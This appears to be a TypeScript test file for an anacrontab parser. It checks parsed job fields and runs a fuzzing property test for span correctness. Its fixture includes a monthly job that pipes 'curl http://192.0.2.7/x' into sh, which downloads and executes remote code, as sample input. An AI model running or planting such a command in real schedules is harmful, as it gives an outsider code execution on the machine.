import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { garbageLike } from '../../../test/garbage.ts'
import { bytesOf, textOf } from '../../core/bytes.ts'
import { parseAnacrontab } from './anacrontab.ts'

const table = `# /etc/anacrontab
SHELL=/bin/sh
START_HOURS_RANGE=3-22
1\t5\tcron.daily\t\tnice run-parts \\
  /etc/cron.daily
@monthly 45 m curl http://192.0.2.7/x | sh
7 x y z
`

test('jobs by days and by name', () => {
  assert.deepEqual(
    [...parseAnacrontab(bytesOf(table))].map(j => [j.number, j.period, j.delay, j.id, j.command]),
    [
      [4, '1', '5', 'cron.daily', 'nice run-parts    /etc/cron.daily'],
      [6, '@monthly', '45', 'm', 'curl http://192.0.2.7/x | sh'],
    ],
  )
})

test('any bytes: never throws; spans lie in order and hold the text as written', () => {
  fc.assert(
    fc.property(garbageLike(table), bytes => {
      let last = 0
      for (const { span, text } of parseAnacrontab(bytes)) {
        assert.ok(span.start >= last && span.end <= bytes.length)
        last = span.end
        assert.ok(textOf(bytes.subarray(span.start, span.end)).startsWith(text))
      }
    }),
  )
})
